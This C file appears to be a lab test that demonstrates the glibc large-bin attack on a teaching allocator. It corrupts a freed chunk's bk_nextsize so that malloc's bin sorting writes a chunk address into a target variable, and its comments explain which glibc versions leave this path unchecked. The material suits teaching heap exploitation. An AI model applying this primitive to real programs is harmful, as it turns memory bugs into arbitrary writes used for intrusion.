/*
 * large_bin_attack.c - corrupt a large-bin chunk's bk_nextsize, and sorting a
 * smaller chunk into the bin writes that chunk's address at a target.
 *
 * A large bin holds chunks of a range of sizes, sorted, with a second list
 * (fd_nextsize, bk_nextsize) that links one chunk of each size.  When malloc
 * sorts a chunk that is smaller than every chunk in the bin, it puts it at
 * the end of that list: the new chunk's bk_nextsize is copied from the
 * largest chunk's, and then new->bk_nextsize->fd_nextsize = new.  Set the
 * largest chunk's bk_nextsize to &target - 4 words, and that write stores
 * the new chunk's address in target.
 *
 * 2.30 added checks to the other path of this sort, the one that inserts a
 * chunk among others of equal or smaller size ("malloc(): largebin double
 * linked list corrupted (nextsize)"), which ended the older form of this
 * attack; this path, for a chunk smaller than all, still checks nothing.
 * Chunks of 0x430 and 0x420 bytes share a large bin and are above the
 * tcache's largest.
 *
 * Works on every release 2.23 ... 2.36.
 */
#include "tests/techniques/technique.h"

static size_t target;

int main(void)
{
    technique_begin("large_bin_attack", "Point a large-bin chunk's bk_nextsize at &target - 32: sorting a smaller "
                                        "chunk into the bin writes its address into target.");

    char *p1 = arenalloc_malloc(0x428);
    arenalloc_malloc(0x18);
    char *p2 = arenalloc_malloc(0x418);
    arenalloc_malloc(0x18);
    say("p1 = malloc(0x428) = %p (0x430 chunk), p2 = malloc(0x418) = %p (0x420), each followed by a guard.",
        (void *)p1, (void *)p2);

    arenalloc_free(p1);
    arenalloc_malloc(0x438);
    say("free(p1), then malloc(0x438), larger: p1 is sorted into its large bin on the way.");
    arenalloc_free(p2);
    say("free(p2): to the unsorted bin.  p2 is smaller than p1, in the same large bin's range.");

    /* LAB(tech-large_bin_attack) BEGIN */
    ((size_t *)p1)[3] = (size_t)&target - 4 * sizeof(size_t);
    /* LAB(tech-large_bin_attack) END */
    say("A write after free: p1->bk_nextsize = &target - 32 = %p.", (void *)((char *)&target - 4 * sizeof(size_t)));

    arenalloc_malloc(0x438);
    say("malloc(0x438): p2 is sorted into the large bin, as its smallest chunk: p2->bk_nextsize = p1's, and");
    say("p2->bk_nextsize->fd_nextsize = p2 writes p2's chunk address (%p) into target.", (void *)chunk_header(p2));
    say("target = %#zx.", target);

    return technique_end(target == (size_t)chunk_header(p2), "the sort wrote p2's chunk address into target");
}
